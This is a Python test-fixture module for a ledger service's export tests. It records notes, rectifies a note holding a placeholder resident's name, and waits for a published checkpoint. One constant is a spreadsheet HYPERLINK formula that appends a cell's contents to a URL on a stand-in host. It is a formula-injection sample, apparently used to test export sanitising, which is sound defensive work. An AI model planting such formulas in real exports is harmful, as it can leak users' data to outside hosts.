"""One ledger for the tests of exports: the history of three boroughs, a text that looks like a formula, and a person's name."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.cli.concordat import HISTORY
from tests.http.conftest import new_folder
from tests.http.server import AUTHORITY, Server, command, serving
from tests.store.appending import until

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Open")'
PERSON = "Jane Roe"
GROUND = "Personal data: a resident's name and address stood in the text."


@dataclass
class Ledger:
    """A server. `named`: the position of the note that holds a person's name; `marking`: of the rectification that marks it."""

    server: Server
    named: int
    marking: int
    head: int

    def get(self, format_: str, role: str = "auditor", **asked: Any) -> httpx2.Response:
        """Ask for an export."""
        return self.server.client(role).get("/v1/export", params={"format": format_, **asked})

    def export(self, format_: str, **asked: Any) -> bytes:
        """An export that must be given."""
        answer = self.get(format_, **asked)
        assert answer.status_code == 200, answer.text
        return answer.content

    def members(self, format_: str, **asked: Any) -> dict[str, bytes]:
        """The files of an export that is a ZIP."""
        with zipfile.ZipFile(io.BytesIO(self.export(format_, **asked))) as archive:
            assert archive.testzip() is None
            return {name: archive.read(name) for name in archive.namelist()}

    def record(self, position: int) -> bytes:
        """The record's canonical bytes, as the trail gives them."""
        accept = {"Accept": "application/vnd.concordat.record+json"}
        return self.server.board.get(f"/v1/decisions/{position}", headers=accept).content


def note(server: Server, id_: str, text: str) -> int:
    """Record a note, and give its position."""
    about = {"note": id_, "text": text, "objects": ["area:desktop"]}
    client = server.client("officer", "westminster")
    answer = server.post("record-note", command(about, "2020-02-01"), client=client)
    assert answer.status_code == 201, answer.text
    position: int = answer.json()["position"]
    return position


@pytest.fixture(scope="session")
def history() -> Path:
    """The history that the ledger is loaded with."""
    return HISTORY


@pytest.fixture(scope="session")
def ledger(history: Path) -> Iterator[Ledger]:
    """The ledger, all of it under a published checkpoint."""
    with new_folder() as folder, serving(folder, "--load", str(history)) as server:
        note(server, "formula", FORMULA)
        named = note(server, "complaint", f"{PERSON} of 12 Acacia Avenue complained about the service desk.")
        corrected = {"note": "complaint", "text": "A resident complained about the service desk.", "objects": ["area:desktop"]}
        marked = command({"position": named, "data": corrected}, "2020-02-03")
        marked["authority"] = {**AUTHORITY, "reasons": GROUND}
        answer = server.post("rectify-decision", marked, client=server.client("officer", "westminster"))
        assert answer.status_code == 201, answer.text
        head: int = answer.json()["position"]

        def is_published() -> bool:
            return int(server.board.get("/v1/log/checkpoint").text.split("\n")[1]) >= head

        until(is_published)
        yield Ledger(server, named, head, head)


def lines(data: bytes) -> list[Any]:
    """NDJSON, read."""
    return [json.loads(line) for line in data.splitlines()]
